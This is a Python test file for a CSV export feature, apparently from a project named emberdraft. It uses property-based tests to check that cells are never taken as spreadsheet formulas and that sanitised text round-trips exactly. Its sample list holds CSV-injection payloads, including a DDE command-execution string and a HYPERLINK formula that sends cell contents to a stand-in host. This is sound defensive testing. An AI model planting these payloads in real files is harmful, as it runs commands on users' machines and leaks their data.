"""No cell of an export is a formula to a spreadsheet, whatever text a board sent; our own import gives the text back.

What a formula is, openpyxl says (it writes what begins with = as one, as Excel does); the other signs are those of
OWASP, "CSV Injection": = + - @, and their full-width forms. pandas reads the file as a spreadsheet does, with the
separators of different countries.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from emberdraft.review import chunks_of
from emberdraft.review.bringing import NUMBERS, WHOLES, bring_text
from emberdraft.review.cells import as_it_was, harmless
from emberdraft.store import Store
from emberdraft.store.records import READING_COLUMNS
from tests.store.making import START_S, reading

NASTY = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://a.example?x="&A1,"here")',
    "\t=1+1", " =1+1", "\u00a0=1", "\uff1d1+1", "'=1+1", "''@x", "'quoted'", "plain", "a,=1+1", "a;=1+1", "a\t@x",
    "two\n=1+1", "line\u2028end", "\x0b=1", '"', "-",
]  # fmt: skip
SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
texts = st.text(alphabet=st.sampled_from([*"=+-@'\"; ,|:\t\n\rab1", "\u00a0", "\uff1d", "\u2028"]), max_size=12)


def formulas(cells: list[Any]) -> list[Any]:
    """Cells that a spreadsheet would work out: what openpyxl takes for a formula, or a text that begins with a sign."""

    import openpyxl

    sheet = openpyxl.Workbook().active
    assert sheet is not None
    sheet.append([openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE.sub("", each) for each in cells])
    taken = [cell.value for cell in sheet[1] if cell.data_type == "f"]
    return taken + [each for each in cells if each.strip()[:1] in SIGNS and each.strip() and not is_number(each)]


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return "_" not in text


def as_file(text: str) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(["yard", harmless(text), -0.5])
    return out.getvalue()


def seen(file: str, separator: str) -> list[str]:
    """Every cell as a spreadsheet with that separator has it."""

    import pandas

    frame = pandas.read_csv(
        io.StringIO(file), sep=separator, header=None, dtype=str, keep_default_na=False, names=range(20),
        on_bad_lines="skip", quoting=csv.QUOTE_MINIMAL if separator == "," else csv.QUOTE_NONE, engine="python",
    )  # fmt: skip
    return [str(each) for row in frame.values.tolist() for each in row if isinstance(each, str) and each]


@settings(max_examples=100, deadline=None)
@given(text=texts)
@example(text="=1+1")
@example(text="a;=1+1")
def test_no_text_becomes_a_formula_with_any_separator_and_each_comes_back(text: str) -> None:
    file = as_file(text)
    for separator in (",", ";", "\t", "|"):
        for each in seen(file, separator):
            assert formulas([each.replace('"', "")]) == [], (separator, each)
    assert as_it_was(harmless(text)) == text


@pytest.fixture
def nasty(store: Store) -> int:
    cook = store.begin_cook("yard", "=1+1", None, START_S)
    rows = [reading(k, phase=text, pit_fault=text) for k, text in enumerate(NASTY)]
    store.add_records("yard", "b1", rows)
    store.end_cook(cook, START_S + 600.0, "plan")
    return cook


def test_an_export_has_no_formula_and_its_numbers_are_numbers(store: Store, nasty: int) -> None:
    rows = list(csv.reader(io.StringIO("".join(chunks_of(store, nasty, "csv")), newline="")))[1:]
    assert len(rows) == len(NASTY)
    for row in rows:
        by_name = dict(zip(READING_COLUMNS, row, strict=True))
        assert formulas(row) == []
        assert by_name["d_duty"] == "-0.01"
        assert all(is_number(cell) for name, cell in by_name.items() if cell and name in NUMBERS | WHOLES)


def test_what_was_exported_comes_back_to_the_letter(store: Store, nasty: int, tmp_path: Any) -> None:
    text, rest = ("".join(chunks_of(store, nasty, form)) for form in ("csv", "rest"))
    with Store(tmp_path / "other.sqlite") as other:
        again = bring_text(other, text, "supper.csv", rest=rest)
        assert other.readings(again) == store.readings(nasty)
        assert other.readings(again)["phase"] == NASTY
